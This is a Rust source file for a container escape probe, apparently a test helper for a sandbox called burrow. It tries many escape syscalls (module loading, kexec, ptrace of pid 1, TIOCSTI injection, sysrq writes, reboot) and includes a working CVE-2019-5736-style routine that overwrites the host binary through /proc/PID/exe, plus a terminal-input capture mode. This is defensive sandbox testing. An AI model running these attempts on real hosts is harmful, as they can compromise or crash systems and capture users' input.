//! burrow-probe: run inside a container, report what the container sees.
//!
//!   burrow-probe status          one line per fact: `key value`
//!   burrow-probe try NAME...     attempt each escape; print `NAME ok` or `NAME EPERM`...
//!
//! The escapes are raw syscalls on purpose: they must reach the kernel
//! exactly as an attacker's code would, with no library in between.

use std::ffi::CString;
use std::io::Write;

fn errno_name(e: i32) -> String {
    let name = match e {
        libc::EPERM => "EPERM",
        libc::ENOENT => "ENOENT",
        libc::EACCES => "EACCES",
        libc::EINVAL => "EINVAL",
        libc::ENOSYS => "ENOSYS",
        libc::EROFS => "EROFS",
        libc::EBADF => "EBADF",
        libc::ESRCH => "ESRCH",
        libc::EFAULT => "EFAULT",
        libc::ENOTTY => "ENOTTY",
        libc::EIO => "EIO",
        libc::EBUSY => "EBUSY",
        libc::EAFNOSUPPORT => "EAFNOSUPPORT",
        libc::ENETUNREACH => "ENETUNREACH",
        libc::EXDEV => "EXDEV",
        libc::EOPNOTSUPP => "EOPNOTSUPP",
        libc::ECONNREFUSED => "ECONNREFUSED",
        libc::ETXTBSY => "ETXTBSY",
        _ => return format!("errno{e}"),
    };
    name.to_string()
}

fn last_errno() -> i32 {
    std::io::Error::last_os_error().raw_os_error().unwrap_or(0)
}

/// Ok for a non-negative return, else the errno's name.
fn check(ret: i64) -> String {
    if ret < 0 {
        errno_name(last_errno())
    } else {
        "ok".into()
    }
}

fn c(s: &str) -> CString {
    CString::new(s).unwrap()
}

fn status() {
    let proc_status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    let field = |k: &str| {
        proc_status
            .lines()
            .find_map(|l| l.strip_prefix(k).map(|v| v.trim().to_string()))
            .unwrap_or_default()
    };
    let mut out = String::new();
    // SAFETY: the id getters cannot fail and touch no memory of ours.
    let (uid, gid, euid) = unsafe { (libc::getuid(), libc::getgid(), libc::geteuid()) };
    out += &format!("uid {uid}\ngid {gid}\neuid {euid}\n");
    out += &format!("groups {}\n", field("Groups:"));
    out += &format!("pid {}\n", std::process::id());
    for k in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
        out += &format!("{} {}\n", k.to_lowercase(), field(&format!("{k}:")));
    }
    out += &format!("nonewprivs {}\n", field("NoNewPrivs:"));
    out += &format!("seccomp {}\n", field("Seccomp:"));
    let host = std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap_or_default();
    out += &format!("hostname {}\n", host.trim());
    out += &format!("cwd {}\n", std::env::current_dir().map(|p| p.display().to_string()).unwrap_or_default());
    if let Ok(fds) = std::fs::read_dir("/proc/self/fd") {
        let mut list: Vec<String> = fds
            .flatten()
            .map(|e| {
                let target = std::fs::read_link(e.path()).map(|p| p.display().to_string()).unwrap_or_default();
                format!("{}={}", e.file_name().to_string_lossy(), target)
            })
            .collect();
        list.sort();
        out += &format!("fds {}\n", list.join(" "));
    }
    for (k, v) in std::env::vars() {
        out += &format!("env {k}={v}\n");
    }
    std::io::stdout().write_all(out.as_bytes()).unwrap();
}

/// One escape attempt; the result as `ok` or an errno name.
fn attempt(name: &str) -> String {
    // SAFETY (for every call below): each syscall gets valid pointers to
    // live, NUL-terminated strings or null, and no memory it writes is ours
    // beyond the local buffers passed with their true lengths.
    unsafe {
        match name {
            "mount" => check(libc::mount(c("none").as_ptr(), c("/tmp").as_ptr(), c("tmpfs").as_ptr(), 0, std::ptr::null()) as i64),
            "umount-keys" => check(libc::umount2(c("/proc/keys").as_ptr(), libc::MNT_DETACH) as i64),
            "umount-proc-sys" => check(libc::umount2(c("/proc/sys").as_ptr(), libc::MNT_DETACH) as i64),
            "read-keys" => read_some("/proc/keys"),
            "read-timer-list" => read_some("/proc/timer_list"),
            "umount-kcore" => check(libc::umount2(c("/proc/kcore").as_ptr(), libc::MNT_DETACH) as i64),
            "unshare-user" => check(libc::unshare(libc::CLONE_NEWUSER) as i64),
            "unshare-mount" => check(libc::unshare(libc::CLONE_NEWNS) as i64),
            "keyctl" => check(libc::syscall(libc::SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3i32 /* session */, 0)),
            "add_key" => check(libc::syscall(libc::SYS_add_key, c("user").as_ptr(), c("burrow").as_ptr(), c("x").as_ptr(), 1usize, -3i32)),
            "bpf" => {
                let mut attr = [0u8; 128];
                check(libc::syscall(libc::SYS_bpf, 0 /* BPF_MAP_CREATE */, attr.as_mut_ptr(), attr.len()))
            }
            "perf_event_open" => {
                let mut attr = [0u8; 128];
                attr[4..8].copy_from_slice(&128u32.to_ne_bytes()); // size
                check(libc::syscall(libc::SYS_perf_event_open, attr.as_mut_ptr(), 0, -1, -1, 0))
            }
            "ptrace-1" => check(libc::ptrace(libc::PTRACE_ATTACH, 1, 0, 0)),
            "kexec_load" => check(libc::syscall(libc::SYS_kexec_load, 0, 0, 0, 0)),
            "init_module" => check(libc::syscall(libc::SYS_init_module, std::ptr::null::<u8>(), 0, c("").as_ptr())),
            "finit_module" => check(libc::syscall(libc::SYS_finit_module, -1, c("").as_ptr(), 0)),
            "open_by_handle_at" => {
                let mut handle = [0u8; 16];
                check(libc::syscall(libc::SYS_open_by_handle_at, libc::AT_FDCWD, handle.as_mut_ptr(), 0))
            }
            "tiocsti" => {
                let ch = b'x';
                check(libc::ioctl(0, libc::TIOCSTI, &ch as *const u8) as i64)
            }
            "tioclinux" => {
                let sub = 2u8; // TIOCL_SETSEL
                check(libc::ioctl(0, libc::TIOCLINUX, &sub as *const u8) as i64)
            }
            "write-proc-sys" => write_file("/proc/sys/kernel/hostname", b"escaped"),
            "write-sysrq" => write_file("/proc/sysrq-trigger", b"h"),
            "read-kcore" => {
                let fd = libc::open(c("/proc/kcore").as_ptr(), libc::O_RDONLY);
                if fd < 0 {
                    return errno_name(last_errno());
                }
                let mut buf = [0u8; 16];
                let r = libc::read(fd, buf.as_mut_ptr().cast(), buf.len());
                libc::close(fd);
                if r > 0 { "ok".into() } else if r == 0 { "empty".into() } else { errno_name(last_errno()) }
            }
            "mknod-block" => check(libc::mknod(c("/tmp/probe-blk").as_ptr(), libc::S_IFBLK | 0o600, libc::makedev(8, 0)) as i64),
            "mknod-char" => check(libc::mknod(c("/tmp/probe-chr").as_ptr(), libc::S_IFCHR | 0o600, libc::makedev(1, 3)) as i64),
            "chown-unmapped" => {
                let p = c("/tmp/probe-chown");
                libc::close(libc::open(p.as_ptr(), libc::O_CREAT | libc::O_WRONLY, 0o600));
                check(libc::chown(p.as_ptr(), 4242, 4242) as i64)
            }
            "socket-inet" => {
                let fd = libc::socket(libc::AF_INET, libc::SOCK_STREAM, 0);
                if fd >= 0 {
                    libc::close(fd);
                }
                check(fd as i64)
            }
            "connect-loopback" => {
                // PROBE_PORT: a port someone listens on (1: nobody).
                let port: u16 = std::env::var("PROBE_PORT").ok().and_then(|p| p.parse().ok()).unwrap_or(1);
                let fd = libc::socket(libc::AF_INET, libc::SOCK_STREAM, 0);
                if fd < 0 {
                    return errno_name(last_errno());
                }
                let addr = libc::sockaddr_in {
                    sin_family: libc::AF_INET as u16,
                    sin_port: port.to_be(),
                    sin_addr: libc::in_addr { s_addr: u32::from_be_bytes([127, 0, 0, 1]).to_be() },
                    sin_zero: [0; 8],
                };
                let r = libc::connect(fd, (&addr as *const libc::sockaddr_in).cast(), std::mem::size_of::<libc::sockaddr_in>() as u32);
                let res = check(r as i64);
                libc::close(fd);
                res
            }
            "setuid-0" => check(libc::setuid(0) as i64),
            "chroot" => check(libc::chroot(c("/tmp").as_ptr()) as i64),
            "sethostname" => check(libc::sethostname(c("x").as_ptr(), 1) as i64),
            "swapon" => check(libc::syscall(libc::SYS_swapon, c("/tmp/none").as_ptr(), 0)),
            "reboot" => check(libc::syscall(libc::SYS_reboot, 0xfee1dead_u32 as i64, 672274793, 0x4321fedc, 0)),
            "clock_settime" => {
                let ts = libc::timespec { tv_sec: 0, tv_nsec: 0 };
                check(libc::clock_settime(libc::CLOCK_REALTIME, &ts) as i64)
            }
            "setns-host" => {
                // The host's namespaces are not reachable; try our parent's view.
                let fd = libc::open(c("/proc/1/ns/mnt").as_ptr(), libc::O_RDONLY);
                if fd < 0 {
                    return errno_name(last_errno());
                }
                let r = check(libc::setns(fd, 0) as i64);
                libc::close(fd);
                r
            }
            "unlinked-temp" => unlinked_temp(),
            other => format!("unknown-attempt:{other}"),
        }
    }
}

/// What apt does with its cache: a temp file unlinked while open, then
/// grown with ftruncate, written through a shared mapping, chmod'ed and
/// closed. `ok`, or the step that failed and its errno.
fn unlinked_temp() -> String {
    const LEN: usize = 1 << 20;
    let step = |what: &str| format!("{what}:{}", errno_name(last_errno()));
    // SAFETY: valid NUL-terminated path; fd and mapping are ours, used
    // within their lengths and released before return.
    unsafe {
        let p = c("/tmp/probe-unlinked");
        let fd = libc::open(p.as_ptr(), libc::O_RDWR | libc::O_CREAT | libc::O_EXCL, 0o644);
        if fd < 0 {
            return step("open");
        }
        if libc::unlink(p.as_ptr()) < 0 {
            return step("unlink");
        }
        if libc::ftruncate(fd, LEN as libc::off_t) < 0 {
            return step("ftruncate");
        }
        let m = libc::mmap(std::ptr::null_mut(), LEN, libc::PROT_READ | libc::PROT_WRITE, libc::MAP_SHARED, fd, 0);
        if m == libc::MAP_FAILED {
            return step("mmap");
        }
        std::ptr::write_bytes(m.cast::<u8>(), b'x', LEN);
        if libc::msync(m, LEN, libc::MS_SYNC) < 0 {
            return step("msync");
        }
        libc::munmap(m, LEN);
        if libc::fchmod(fd, 0o600) < 0 {
            return step("fchmod");
        }
        let mut st: libc::stat = std::mem::zeroed();
        if libc::fstat(fd, &mut st) < 0 {
            return step("fstat");
        }
        if st.st_size != LEN as libc::off_t || st.st_mode & 0o777 != 0o600 {
            return format!("fstat:size={},mode={:o}", st.st_size, st.st_mode & 0o777);
        }
        if libc::close(fd) < 0 {
            return step("close");
        }
    }
    "ok".into()
}

/// `ok` when `path` has bytes to read, `empty` when it reads as empty
/// (masked by /dev/null), else the errno's name.
fn read_some(path: &str) -> String {
    match std::fs::read(path) {
        Ok(b) if b.is_empty() => "empty".into(),
        Ok(_) => "ok".into(),
        Err(e) => errno_name(e.raw_os_error().unwrap_or(0)),
    }
}

fn write_file(path: &str, data: &[u8]) -> String {
    match std::fs::OpenOptions::new().write(true).open(path) {
        Ok(mut f) => match f.write_all(data) {
            Ok(()) => "ok".into(),
            Err(e) => errno_name(e.raw_os_error().unwrap_or(0)),
        },
        Err(e) => errno_name(e.raw_os_error().unwrap_or(0)),
    }
}

/// `grab-exe SECS DEV INO`: for SECS seconds, open /proc/PID/exe of
/// every other process (O_PATH) as CVE-2019-5736 does; a process whose
/// exe is the file DEV:INO (the host's burrow binary) is reported
/// (`grabbed PID`), and the file is written through that handle as soon
/// as the kernel lets it (`wrote`); `write-refused ERRNO` when refused
/// for another reason than ETXTBSY (something runs it), or at the end.
/// Refused opens are reported once per pid (`denied PID ERRNO`), and so
/// are processes that run from a memfd (`opened PID /memfd:...`).
fn grab_exe(secs: u64, dev: u64, ino: u64) {
    let me = std::process::id() as i32;
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(secs);
    let mut denied = std::collections::HashSet::new();
    let mut memfds = std::collections::HashSet::new();
    let mut top = 1;
    let mut grabbed: Option<i32> = None;
    let mut last_refusal = String::new();
    while std::time::Instant::now() < deadline {
        if let Some(fd) = grabbed {
            // Opening the handle's file for writing: refused with ETXTBSY
            // while anything executes it, allowed once nothing does.
            let path = c(&format!("/proc/self/fd/{fd}"));
            // SAFETY: a valid NUL-terminated path; the buffer is ours.
            let w = unsafe { libc::open(path.as_ptr(), libc::O_WRONLY) };
            if w >= 0 {
                // SAFETY: w is an fd we own; the buffer is 5 live bytes.
                let n = unsafe { libc::pwrite(w, b"PWNED".as_ptr().cast(), 5, 0) };
                println!("wrote {}", if n == 5 { "ok".into() } else { errno_name(last_errno()) });
                return;
            }
            let e = last_errno();
            if e != libc::ETXTBSY {
                // Not because something runs it: refused for good.
                println!("write-refused {}", errno_name(e));
                return;
            }
            last_refusal = errno_name(e);
            std::thread::sleep(std::time::Duration::from_millis(5));
            continue;
        }
        // New processes get the next pids: look at those first, then all.
        let mut pids: Vec<i32> = (top + 1..top + 8).collect();
        if let Ok(dir) = std::fs::read_dir("/proc") {
            pids.extend(dir.flatten().filter_map(|e| e.file_name().to_str()?.parse::<i32>().ok()));
        }
        for pid in pids {
            if pid == me {
                continue;
            }
            let path = c(&format!("/proc/{pid}/exe"));
            // SAFETY: a valid NUL-terminated path.
            let fd = unsafe { libc::open(path.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
            if fd < 0 {
                let e = last_errno();
                if e != libc::ENOENT && denied.insert(pid) {
                    println!("denied {pid} {}", errno_name(e));
                }
                continue;
            }
            top = top.max(pid);
            // SAFETY: fd is ours; st is a zeroed stat the call fills.
            let mut st: libc::stat = unsafe { std::mem::zeroed() };
            let same = unsafe { libc::fstat(fd, &mut st) } == 0 && st.st_dev == dev && st.st_ino == ino;
            if same {
                println!("grabbed {pid}");
                grabbed = Some(fd);
                break;
            }
            // A process running from an in-memory copy (burrow's sealed
            // one): said once, it shows the road was taken.
            let target = std::fs::read_link(format!("/proc/{pid}/exe")).unwrap_or_default();
            if target.to_string_lossy().starts_with("/memfd:") && memfds.insert(pid) {
                println!("opened {pid} {}", target.display());
            }
            // SAFETY: fd is ours and not used again.
            unsafe { libc::close(fd) };
        }
    }
    match grabbed {
        Some(_) => println!("write-refused {last_refusal}"),
        None => println!("grabbed none"),
    }
}

/// `read-fd N MS`: reopen /proc/self/fd/N for reading (as a process that
/// wants to read what the user types into the terminal would) and print
/// what arrives in MS milliseconds as `stolen:<bytes>`, or the errno.
fn read_fd(fd: i32, ms: u64) {
    let path = c(&format!("/proc/self/fd/{fd}"));
    // SAFETY: a valid NUL-terminated path.
    let r = unsafe { libc::open(path.as_ptr(), libc::O_RDONLY | libc::O_NONBLOCK) };
    if r < 0 {
        println!("read-fd {}", errno_name(last_errno()));
        return;
    }
    let deadline = std::time::Instant::now() + std::time::Duration::from_millis(ms);
    let mut got = Vec::new();
    let mut buf = [0u8; 256];
    while std::time::Instant::now() < deadline {
        // SAFETY: r is ours; the buffer is live with its true length.
        let n = unsafe { libc::read(r, buf.as_mut_ptr().cast(), buf.len()) };
        if n > 0 {
            got.extend_from_slice(&buf[..n as usize]);
        } else {
            std::thread::sleep(std::time::Duration::from_millis(10));
        }
    }
    println!("stolen:{}", String::from_utf8_lossy(&got).escape_default());
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    match args.first().map(String::as_str) {
        Some("status") => status(),
        Some("grab-exe") if args.len() == 4 => {
            let n = |i: usize| args[i].parse::<u64>().expect("a number");
            grab_exe(n(1), n(2), n(3))
        }
        Some("read-fd") if args.len() == 3 => {
            read_fd(args[1].parse().expect("an fd"), args[2].parse().expect("ms"))
        }
        Some("try") => {
            for name in &args[1..] {
                println!("{name} {}", attempt(name));
            }
        }
        _ => {
            eprintln!("usage: burrow-probe status | try NAME... | grab-exe SECS DEV INO | read-fd N MS");
            std::process::exit(2);
        }
    }
}
